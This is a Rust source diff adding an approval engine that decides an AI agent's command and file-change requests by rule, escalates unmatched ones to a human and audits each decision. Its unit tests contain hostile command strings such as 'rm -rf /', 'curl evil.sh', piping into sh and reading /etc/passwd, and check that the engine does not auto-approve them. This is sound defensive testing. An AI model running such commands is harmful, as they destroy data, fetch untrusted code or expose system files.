@@ -0,0 +1,799 @@
+use serde::{Deserialize, Serialize};
+use serde_json::{json, Value};
+use std::collections::{HashMap, VecDeque};
+use std::path::{Path, PathBuf};
+use std::sync::Mutex;
+use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
+
+use crate::backend::session_log::{log_file_path, read_rotated_jsonl, RotatingLogFile};
+use crate::types::{ApprovalAction, ApprovalRule};
+
+/// Audit entries kept in memory per workspace session.
+const AUDIT_CAPACITY: usize = 500;
+/// File change items remembered while their approval may still be pending.
+const FILE_CHANGE_ITEM_CAPACITY: usize = 256;
+
+const COMMAND_KEYS: [&str; 9] = [
+    "argv",
+    "args",
+    "command",
+    "cmd",
+    "exec",
+    "shellCommand",
+    "script",
+    "proposedExecPolicyAmendment",
+    "proposed_exec_policy_amendment",
+];
+
+/// Shell syntax that chains, substitutes or redirects commands, so a prefix rule can't
+/// vouch for the whole command line.
+const SHELL_OPERATORS: [&str; 7] = ["&", "|", ";", "`", "$(", ">", "<"];
+const SHELL_WRAPPERS: [&str; 6] = ["sh", "bash", "zsh", "dash", "ksh", "fish"];
+
+pub(crate) fn is_approval_request(method: &str) -> bool {
+    method.contains("requestApproval")
+}
+
+/// What is known about an approval request when the rules are evaluated.
+#[derive(Debug, Clone, Default)]
+pub(crate) struct ApprovalContext {
+    pub(crate) command: Option<Vec<String>>,
+    /// Changed files, relative to the workspace root when they are inside it.
+    pub(crate) paths: Vec<String>,
+    /// Set when a changed file resolves outside the workspace root.
+    pub(crate) paths_outside_root: bool,
+    pub(crate) sandbox_mode: Option<String>,
+    pub(crate) idle: Duration,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct ApprovalDecision {
+    pub(crate) action: ApprovalAction,
+    pub(crate) rule_id: Option<String>,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub(crate) struct ApprovalAuditEntry {
+    pub(crate) ts: u64,
+    pub(crate) workspace_id: String,
+    pub(crate) thread_id: Option<String>,
+    pub(crate) request_id: Value,
+    pub(crate) method: String,
+    pub(crate) command: Option<Vec<String>>,
+    pub(crate) paths: Vec<String>,
+    pub(crate) sandbox_mode: Option<String>,
+    pub(crate) idle_secs: u64,
+    pub(crate) action: ApprovalAction,
+    pub(crate) rule_id: Option<String>,
+}
+
+/// Matches `*` and `?` within a path segment and `**` across segments.
+pub(crate) fn glob_matches(pattern: &str, path: &str) -> bool {
+    fn matches(pattern: &[char], text: &[char]) -> bool {
+        match pattern {
+            [] => text.is_empty(),
+            ['*', '*', rest @ ..] => {
+                if let ['/', after @ ..] = rest {
+                    if matches(after, text) {
+                        return true;
+                    }
+                }
+                (0..=text.len()).any(|index| matches(rest, &text[index..]))
+            }
+            ['*', rest @ ..] => {
+                let segment_end = text.iter().position(|ch| *ch == '/').unwrap_or(text.len());
+                (0..=segment_end).any(|index| matches(rest, &text[index..]))
+            }
+            ['?', rest @ ..] => match text {
+                [first, tail @ ..] if *first != '/' => matches(rest, tail),
+                _ => false,
+            },
+            [literal, rest @ ..] => match text {
+                [first, tail @ ..] if first == literal => matches(rest, tail),
+                _ => false,
+            },
+        }
+    }
+    let pattern: Vec<char> = pattern.trim().trim_start_matches("./").chars().collect();
+    let path: Vec<char> = path.chars().collect();
+    matches(&pattern, &path)
+}
+
+/// True for command lines that run more than the command itself: operators that chain,
+/// pipe, substitute or redirect, and `sh -c` style wrappers around a script.
+pub(crate) fn is_compound_command(command: &[String]) -> bool {
+    if command
+        .iter()
+        .any(|token| token.contains('\n') || SHELL_OPERATORS.iter().any(|op| token.contains(op)))
+    {
+        return true;
+    }
+    let Some((program, args)) = command.split_first() else {
+        return false;
+    };
+    let program = program.rsplit(['/', '\\']).next().unwrap_or(program);
+    SHELL_WRAPPERS.contains(&program)
+        && args
+            .iter()
+            .any(|arg| arg.starts_with('-') && !arg.starts_with("--") && arg.contains('c'))
+}
+
+fn rule_matches(rule: &ApprovalRule, context: &ApprovalContext) -> bool {
+    if rule.action == ApprovalAction::Approve
+        && context.command.as_deref().is_some_and(is_compound_command)
+    {
+        return false;
+    }
+    if let Some(prefix) = rule.command_prefix.as_ref() {
+        let Some(command) = context.command.as_ref() else {
+            return false;
+        };
+        if prefix.is_empty() || prefix.len() > command.len() {
+            return false;
+        }
+        if prefix
+            .iter()
+            .zip(command)
+            .any(|(want, got)| want.trim() != got)
+        {
+            return false;
+        }
+    }
+    if let Some(globs) = rule.path_globs.as_ref() {
+        if context.paths.is_empty() || context.paths_outside_root {
+            return false;
+        }
+        let all_match = context
+            .paths
+            .iter()
+            .all(|path| globs.iter().any(|glob| glob_matches(glob, path)));
+        if !all_match {
+            return false;
+        }
+    }
+    if let Some(modes) = rule.sandbox_modes.as_ref() {
+        let Some(mode) = context.sandbox_mode.as_deref() else {
+            return false;
+        };
+        if !modes.iter().any(|candidate| candidate == mode) {
+            return false;
+        }
+    }
+    let idle_secs = context.idle.as_secs();
+    if rule.min_idle_secs.is_some_and(|min| idle_secs < min) {
+        return false;
+    }
+    if rule.max_idle_secs.is_some_and(|max| idle_secs > max) {
+        return false;
+    }
+    true
+}
+
+/// Returns the action of the first matching rule, escalating to a human when none match.
+pub(crate) fn evaluate_rules(
+    rules: &[ApprovalRule],
+    context: &ApprovalContext,
+) -> ApprovalDecision {
+    rules
+        .iter()
+        .find(|rule| rule_matches(rule, context))
+        .map(|rule| ApprovalDecision {
+            action: rule.action,
+            rule_id: Some(rule.id.clone()).filter(|id| !id.is_empty()),
+        })
+        .unwrap_or(ApprovalDecision {
+            action: ApprovalAction::Escalate,
+            rule_id: None,
+        })
+}
+
+fn extract_command_tokens(value: &Value) -> Option<Vec<String>> {
+    match value {
+        Value::Array(items) => {
+            let tokens: Vec<String> = items
+                .iter()
+                .map(|item| item.as_str().map(|token| token.trim().to_string()))
+                .collect::<Option<Vec<_>>>()?;
+            let tokens: Vec<String> = tokens
+                .into_iter()
+                .filter(|token| !token.is_empty())
+                .collect();
+            (!tokens.is_empty()).then_some(tokens)
+        }
+        Value::String(command) => {
+            let tokens = shell_words::split(command)
+                .unwrap_or_else(|_| command.split_whitespace().map(str::to_string).collect());
+            (!tokens.is_empty()).then_some(tokens)
+        }
+        Value::Object(map) => COMMAND_KEYS
+            .iter()
+            .find_map(|key| map.get(*key).and_then(extract_command_tokens))
+            .or_else(|| {
+                map.iter()
+                    .filter(|(key, _)| {
+                        let key = key.to_lowercase();
+                        key.contains("execpolicy") || key.contains("exec_policy")
+                    })
+                    .find_map(|(_, nested)| extract_command_tokens(nested))
+            }),
+        _ => None,
+    }
+}
+
+fn extract_change_paths(value: &Value) -> Vec<String> {
+    let mut paths = Vec::new();
+    for key in ["fileChanges", "changes"] {
+        match value.get(key) {
+            Some(Value::Object(map)) => paths.extend(map.keys().cloned()),
+            Some(Value::Array(items)) => paths.extend(
+                items
+                    .iter()
+                    .filter_map(|item| item.get("path").and_then(Value::as_str))
+                    .map(str::to_string),
+            ),
+            _ => {}
+        }
+    }
+    for key in ["path", "grantRoot"] {
+        if let Some(path) = value.get(key).and_then(Value::as_str) {
+            paths.push(path.to_string());
+        }
+    }
+    paths
+}
+
+pub(crate) fn is_absolute_path(path: &str) -> bool {
+    path.starts_with('/') || path.as_bytes().get(1) == Some(&b':')
+}
+
+/// The path relative to the workspace root with `.` and `..` resolved, or `None` when it
+/// points outside the root.
+pub(crate) fn relative_to_root(path: &str, root: &str) -> Option<String> {
+    let path = path.replace('\\', "/");
+    let root = root.replace('\\', "/");
+    let root = root.trim_end_matches('/');
+    let rest = if is_absolute_path(&path) {
+        path.strip_prefix(root)
+            .filter(|rest| rest.is_empty() || rest.starts_with('/'))?
+    } else {
+        path.as_str()
+    };
+    let mut segments: Vec<&str> = Vec::new();
+    for segment in rest.split('/') {
+        match segment {
+            "" | "." => {}
+            ".." => {
+                segments.pop()?;
+            }
+            segment => segments.push(segment),
+        }
+    }
+    Some(segments.join("/"))
+}
+
+pub(crate) fn audit_file_path(dir: &Path, workspace_id: &str) -> PathBuf {
+    log_file_path(dir, workspace_id).with_extension("approvals.jsonl")
+}
+
+/// Audit entries from the live session when there is one, otherwise from its audit file.
+pub(crate) fn query_audit_log(
+    live: Option<&ApprovalEngine>,
+    log_dir: Option<&Path>,
+    workspace_id: &str,
+    limit: Option<usize>,
+) -> Vec<ApprovalAuditEntry> {
+    let mut entries = match live {
+        Some(engine) => engine.audit_entries(),
+        None => log_dir
+            .map(|dir| read_rotated_jsonl(&audit_file_path(dir, workspace_id)))
+            .unwrap_or_default(),
+    };
+    if let Some(limit) = limit {
+        if entries.len() > limit {
+            entries.drain(..entries.len() - limit);
+        }
+    }
+    entries
+}
+
+struct AuditLog {
+    entries: VecDeque<ApprovalAuditEntry>,
+    file: Option<RotatingLogFile>,
+}
+
+/// Per-session rule evaluation plus the state the rules look at: the sandbox of each
+/// thread's current turn, pending file changes and the last human interaction.
+pub(crate) struct ApprovalEngine {
+    workspace_id: String,
+    workspace_path: String,
+    rules: Mutex<Vec<ApprovalRule>>,
+    thread_sandbox: Mutex<HashMap<String, String>>,
+    file_change_paths: Mutex<HashMap<String, Vec<String>>>,
+    last_human_interaction: Mutex<Instant>,
+    audit: Mutex<AuditLog>,
+}
+
+impl ApprovalEngine {
+    pub(crate) fn new(
+        workspace_id: &str,
+        workspace_path: &str,
+        rules: Vec<ApprovalRule>,
+        log_dir: Option<&Path>,
+    ) -> Self {
+        let file = log_dir.and_then(|dir| {
+            RotatingLogFile::open(audit_file_path(dir, workspace_id))
+                .map_err(|error| eprintln!("[approvals] audit log unavailable: {error}"))
+                .ok()
+        });
+        Self {
+            workspace_id: workspace_id.to_string(),
+            workspace_path: workspace_path.to_string(),
+            rules: Mutex::new(rules),
+            thread_sandbox: Mutex::new(HashMap::new()),
+            file_change_paths: Mutex::new(HashMap::new()),
+            last_human_interaction: Mutex::new(Instant::now()),
+            audit: Mutex::new(AuditLog {
+                entries: VecDeque::new(),
+                file,
+            }),
+        }
+    }
+
+    pub(crate) fn set_rules(&self, rules: Vec<ApprovalRule>) {
+        if let Ok(mut current) = self.rules.lock() {
+            *current = rules;
+        }
+    }
+
+    pub(crate) fn mark_human_interaction(&self) {
+        if let Ok(mut last) = self.last_human_interaction.lock() {
+            *last = Instant::now();
+        }
+    }
+
+    /// Remembers the sandbox policy of each `turn/start` sent to the app-server.
+    pub(crate) fn observe_request(&self, method: &str, params: &Value) {
+        if method != "turn/start" {
+            return;
+        }
+        let thread_id = params.get("threadId").and_then(Value::as_str);
+        let mode = params
+            .get("sandboxPolicy")
+            .and_then(|policy| policy.get("type"))
+            .and_then(Value::as_str);
+        if let (Some(thread_id), Some(mode), Ok(mut modes)) =
+            (thread_id, mode, self.thread_sandbox.lock())
+        {
+            modes.insert(thread_id.to_string(), mode.to_string());
+        }
+    }
+
+    /// Tracks the paths of file change items so their approval requests can be matched.
+    pub(crate) fn observe_notification(&self, value: &Value) {
+        let method = value.get("method").and_then(Value::as_str).unwrap_or("");
+        let Some(item) = value.get("params").and_then(|params| params.get("item")) else {
+            return;
+        };
+        if item.get("type").and_then(Value::as_str) != Some("fileChange") {
+            return;
+        }
+        let Some(item_id) = item.get("id").and_then(Value::as_str) else {
+            return;
+        };
+        let Ok(mut items) = self.file_change_paths.lock() else {
+            return;
+        };
+        match method {
+            "item/started" => {
+                if items.len() >= FILE_CHANGE_ITEM_CAPACITY {
+                    items.clear();
+                }
+                items.insert(item_id.to_string(), extract_change_paths(item));
+            }
+            "item/completed" => {
+                items.remove(item_id);
+            }
+            _ => {}
+        }
+    }
+
+    fn context_for(&self, params: &Value, thread_id: Option<&str>) -> ApprovalContext {
+        let mut paths = extract_change_paths(params);
+        if let Some(item_id) = params.get("itemId").and_then(Value::as_str) {
+            if let Ok(items) = self.file_change_paths.lock() {
+                paths.extend(items.get(item_id).cloned().unwrap_or_default());
+            }
+        }
+        let mut paths_outside_root = false;
+        let mut paths: Vec<String> = paths
+            .iter()
+            .map(|path| {
+                relative_to_root(path, &self.workspace_path).unwrap_or_else(|| {
+                    paths_outside_root = true;
+                    path.replace('\\', "/")
+                })
+            })
+            .collect();
+        paths.sort();
+        paths.dedup();
+        let sandbox_mode = thread_id.and_then(|thread_id| {
+            self.thread_sandbox
+                .lock()
+                .ok()
+                .and_then(|modes| modes.get(thread_id).cloned())
+        });
+        let idle = self
+            .last_human_interaction
+            .lock()
+            .map(|last| last.elapsed())
+            .unwrap_or_default();
+        ApprovalContext {
+            command: extract_command_tokens(params),
+            paths,
+            paths_outside_root,
+            sandbox_mode,
+            idle,
+        }
+    }
+
+    /// Decides an incoming approval request and records the decision in the audit log.
+    /// Returns `None` for messages that are not approval requests.
+    pub(crate) fn evaluate(&self, message: &Value) -> Option<ApprovalDecision> {
+        let method = message.get("method").and_then(Value::as_str)?;
+        let request_id = message.get("id")?.clone();
+        if !is_approval_request(method) {
+            return None;
+        }
+        let params = message.get("params").cloned().unwrap_or(Value::Null);
+        let thread_id = params
+            .get("threadId")
+            .or_else(|| params.get("conversationId"))
+            .and_then(Value::as_str)
+            .map(str::to_string);
+        let context = self.context_for(&params, thread_id.as_deref());
+        let decision = self
+            .rules
+            .lock()
+            .map(|rules| evaluate_rules(&rules, &context))
+            .unwrap_or(ApprovalDecision {
+                action: ApprovalAction::Escalate,
+                rule_id: None,
+            });
+        self.record(ApprovalAuditEntry {
+            ts: SystemTime::now()
+                .duration_since(UNIX_EPOCH)
+                .map(|duration| duration.as_millis() as u64)
+                .unwrap_or(0),
+            workspace_id: self.workspace_id.clone(),
+            thread_id,
+            request_id,
+            method: method.to_string(),
+            command: context.command,
+            paths: context.paths,
+            sandbox_mode: context.sandbox_mode,
+            idle_secs: context.idle.as_secs(),
+            action: decision.action,
+            rule_id: decision.rule_id.clone(),
+        });
+        Some(decision)
+    }
+
+    fn record(&self, entry: ApprovalAuditEntry) {
+        let Ok(mut audit) = self.audit.lock() else {
+            return;
+        };
+        if let Some(file) = audit.file.as_mut() {
+            if let Ok(mut line) = serde_json::to_string(&entry) {
+                line.push('\n');
+                file.append(&line);
+            }
+        }
+        audit.entries.push_back(entry);
+        while audit.entries.len() > AUDIT_CAPACITY {
+            audit.entries.pop_front();
+        }
+    }
+
+    pub(crate) fn audit_entries(&self) -> Vec<ApprovalAuditEntry> {
+        self.audit
+            .lock()
+            .map(|audit| audit.entries.iter().cloned().collect())
+            .unwrap_or_default()
+    }
+}
+
+/// Response sent back to the app-server for an automatic decision, mirroring the UI.
+pub(crate) fn decision_response(action: ApprovalAction) -> Option<Value> {
+    match action {
+        ApprovalAction::Approve => Some(json!({ "decision": "accept" })),
+        ApprovalAction::Deny => Some(json!({ "decision": "decline" })),
+        ApprovalAction::Escalate => None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{
+        evaluate_rules, glob_matches, is_compound_command, relative_to_root, ApprovalContext,
+        ApprovalEngine,
+    };
+    use crate::types::{ApprovalAction, ApprovalRule};
+    use serde_json::json;
+    use std::time::Duration;
+
+    fn rule(id: &str, action: ApprovalAction) -> ApprovalRule {
+        ApprovalRule {
+            id: id.to_string(),
+            action,
+            command_prefix: None,
+            path_globs: None,
+            sandbox_modes: None,
+            min_idle_secs: None,
+            max_idle_secs: None,
+        }
+    }
+
+    #[test]
+    fn glob_matches_segments_and_double_star() {
+        assert!(glob_matches("src/**/*.rs", "src/backend/app_server.rs"));
+        assert!(glob_matches("src/**/*.rs", "src/lib.rs"));
+        assert!(glob_matches("*.md", "README.md"));
+        assert!(!glob_matches("*.md", "docs/README.md"));
+        assert!(glob_matches("docs/?.txt", "docs/a.txt"));
+        assert!(!glob_matches("src/**/*.rs", "tests/lib.rs"));
+    }
+
+    #[test]
+    fn first_matching_rule_wins_and_unmatched_escalates() {
+        let rules = vec![
+            ApprovalRule {
+                command_prefix: Some(vec!["cargo".to_string(), "test".to_string()]),
+                ..rule("cargo-test", ApprovalAction::Approve)
+            },
+            ApprovalRule {
+                command_prefix: Some(vec!["rm".to_string()]),
+                ..rule("no-rm", ApprovalAction::Deny)
+            },
+        ];
+        let context = ApprovalContext {
+            command: Some(vec!["cargo".into(), "test".into(), "--workspace".into()]),
+            ..ApprovalContext::default()
+        };
+        let decision = evaluate_rules(&rules, &context);
+        assert_eq!(decision.action, ApprovalAction::Approve);
+        assert_eq!(decision.rule_id.as_deref(), Some("cargo-test"));
+
+        let context = ApprovalContext {
+            command: Some(vec!["cargo".into(), "build".into()]),
+            ..ApprovalContext::default()
+        };
+        assert_eq!(
+            evaluate_rules(&rules, &context).action,
+            ApprovalAction::Escalate
+        );
+    }
+
+    #[test]
+    fn rules_check_paths_sandbox_and_idle_time() {
+        let rules = vec![ApprovalRule {
+            path_globs: Some(vec!["docs/**".to_string()]),
+            sandbox_modes: Some(vec!["workspaceWrite".to_string()]),
+            min_idle_secs: Some(600),
+            ..rule("docs-while-away", ApprovalAction::Approve)
+        }];
+        let mut context = ApprovalContext {
+            paths: vec!["docs/guide.md".to_string()],
+            sandbox_mode: Some("workspaceWrite".to_string()),
+            idle: Duration::from_secs(900),
+            ..ApprovalContext::default()
+        };
+        assert_eq!(
+            evaluate_rules(&rules, &context).action,
+            ApprovalAction::Approve
+        );
+        context.idle = Duration::from_secs(30);
+        assert_eq!(
+            evaluate_rules(&rules, &context).action,
+            ApprovalAction::Escalate
+        );
+        context.idle = Duration::from_secs(900);
+        context.paths.push("src/main.rs".to_string());
+        assert_eq!(
+            evaluate_rules(&rules, &context).action,
+            ApprovalAction::Escalate
+        );
+    }
+
+    #[test]
+    fn engine_uses_turn_sandbox_and_audits_decisions() {
+        let engine = ApprovalEngine::new(
+            "ws-1",
+            "/repo",
+            vec![ApprovalRule {
+                command_prefix: Some(vec![
+                    "npm".to_string(),
+                    "run".to_string(),
+                    "lint".to_string(),
+                ]),
+                sandbox_modes: Some(vec!["workspaceWrite".to_string()]),
+                ..rule("lint", ApprovalAction::Approve)
+            }],
+            None,
+        );
+        engine.observe_request(
+            "turn/start",
+            &json!({ "threadId": "thread-1", "sandboxPolicy": { "type": "workspaceWrite" } }),
+        );
+        let request = json!({
+            "id": 7,
+            "method": "item/commandExecution/requestApproval",
+            "params": { "threadId": "thread-1", "command": "npm run lint -- --fix" }
+        });
+        let decision = engine.evaluate(&request).expect("approval request");
+        assert_eq!(decision.action, ApprovalAction::Approve);
+        assert!(engine
+            .evaluate(&json!({ "method": "turn/started", "params": {} }))
+            .is_none());
+
+        let audit = engine.audit_entries();
+        assert_eq!(audit.len(), 1);
+        assert_eq!(audit[0].request_id, json!(7));
+        assert_eq!(audit[0].sandbox_mode.as_deref(), Some("workspaceWrite"));
+        assert_eq!(audit[0].rule_id.as_deref(), Some("lint"));
+    }
+
+    #[test]
+    fn engine_resolves_file_change_paths_from_items() {
+        let engine = ApprovalEngine::new(
+            "ws-1",
+            "/repo",
+            vec![ApprovalRule {
+                path_globs: Some(vec!["src/**".to_string()]),
+                ..rule("", ApprovalAction::Deny)
+            }],
+            None,
+        );
+        engine.observe_notification(&json!({
+            "method": "item/started",
+            "params": { "item": {
+                "id": "item-1",
+                "type": "fileChange",
+                "changes": [{ "path": "/repo/src/lib.rs" }]
+            } }
+        }));
+        let request = json!({
+            "id": "req-1",
+            "method": "item/fileChange/requestApproval",
+            "params": { "threadId": "thread-1", "itemId": "item-1" }
+        });
+        let decision = engine.evaluate(&request).expect("approval request");
+        assert_eq!(decision.action, ApprovalAction::Deny);
+        assert_eq!(decision.rule_id, None);
+        assert_eq!(engine.audit_entries()[0].paths, vec!["src/lib.rs"]);
+    }
+
+    fn command_context(command: &[&str]) -> ApprovalContext {
+        ApprovalContext {
+            command: Some(command.iter().map(|token| token.to_string()).collect()),
+            ..ApprovalContext::default()
+        }
+    }
+
+    fn git_status_rules() -> Vec<ApprovalRule> {
+        vec![ApprovalRule {
+            command_prefix: Some(vec!["git".to_string(), "status".to_string()]),
+            ..rule("git-status", ApprovalAction::Approve)
+        }]
+    }
+
+    fn assert_escalates(rules: &[ApprovalRule], command: &[&str]) {
+        assert_eq!(
+            evaluate_rules(rules, &command_context(command)).action,
+            ApprovalAction::Escalate,
+            "{command:?}"
+        );
+    }
+
+    #[test]
+    fn chained_commands_are_not_auto_approved() {
+        let rules = git_status_rules();
+        assert_escalates(&rules, &["git", "status", "&&", "rm", "-rf", "/"]);
+        assert_escalates(&rules, &["git", "status", "||", "curl", "evil.sh"]);
+        assert_escalates(&rules, &["git", "status;", "rm", "-rf", "/"]);
+        assert_escalates(&rules, &["git", "status", "&", "rm", "-rf", "/"]);
+        assert_escalates(&rules, &["git", "status\nrm -rf /"]);
+    }
+
+    #[test]
+    fn piped_commands_are_not_auto_approved() {
+        assert_escalates(&git_status_rules(), &["git", "status", "|", "sh"]);
+    }
+
+    #[test]
+    fn command_substitution_is_not_auto_approved() {
+        let rules = git_status_rules();
+        assert_escalates(&rules, &["git", "status", "`rm -rf /`"]);
+        assert_escalates(&rules, &["git", "status", "$(rm -rf /)"]);
+    }
+
+    #[test]
+    fn redirections_are_not_auto_approved() {
+        let rules = git_status_rules();
+        assert_escalates(&rules, &["git", "status", ">", "~/.bashrc"]);
+        assert_escalates(&rules, &["git", "status", "2>&1"]);
+        assert_escalates(&rules, &["git", "status", "<", "/etc/passwd"]);
+    }
+
+    #[test]
+    fn shell_wrappers_are_not_auto_approved() {
+        let rules = vec![ApprovalRule {
+            command_prefix: Some(vec!["bash".to_string()]),
+            ..rule("bash", ApprovalAction::Approve)
+        }];
+        assert_escalates(&rules, &["bash", "-lc", "git status"]);
+        assert_escalates(&rules, &["bash", "-c", "git status"]);
+        assert!(is_compound_command(&[
+            "/bin/sh".to_string(),
+            "-c".to_string(),
+            "git status".to_string()
+        ]));
+        assert_eq!(
+            evaluate_rules(&rules, &command_context(&["bash", "scripts/check.sh"])).action,
+            ApprovalAction::Approve
+        );
+    }
+
+    #[test]
+    fn compound_commands_still_hit_deny_rules() {
+        let rules = vec![
+            ApprovalRule {
+                command_prefix: Some(vec!["git".to_string()]),
+                ..rule("git", ApprovalAction::Approve)
+            },
+            ApprovalRule {
+                command_prefix: Some(vec!["git".to_string()]),
+                ..rule("no-git-chains", ApprovalAction::Deny)
+            },
+        ];
+        let decision = evaluate_rules(&rules, &command_context(&["git", "status", "&&", "ls"]));
+        assert_eq!(decision.action, ApprovalAction::Deny);
+        assert_eq!(decision.rule_id.as_deref(), Some("no-git-chains"));
+    }
+
+    #[test]
+    fn paths_outside_the_root_never_match_globs() {
+        assert_eq!(
+            relative_to_root("/repo/src/../docs/a.md", "/repo").as_deref(),
+            Some("docs/a.md")
+        );
+        assert_eq!(relative_to_root("/etc/passwd", "/repo"), None);
+        assert_eq!(relative_to_root("/repo-other/a.md", "/repo"), None);
+        assert_eq!(relative_to_root("/repo/../etc/passwd", "/repo"), None);
+        assert_eq!(relative_to_root("docs/../../secret", "/repo"), None);
+
+        let engine = ApprovalEngine::new(
+            "ws-1",
+            "/repo",
+            vec![ApprovalRule {
+                path_globs: Some(vec!["**".to_string()]),
+                ..rule("anything-in-repo", ApprovalAction::Approve)
+            }],
+            None,
+        );
+        let request = |path: &str| {
+            json!({
+                "id": 1,
+                "method": "item/fileChange/requestApproval",
+                "params": { "threadId": "thread-1", "changes": [{ "path": path }] }
+            })
+        };
+        let inside = engine
+            .evaluate(&request("/repo/docs/a.md"))
+            .expect("approval");
+        assert_eq!(inside.action, ApprovalAction::Approve);
+        let outside = engine.evaluate(&request("/etc/passwd")).expect("approval");
+        assert_eq!(outside.action, ApprovalAction::Escalate);
+        assert_eq!(engine.audit_entries()[1].paths, vec!["/etc/passwd"]);
+    }
+}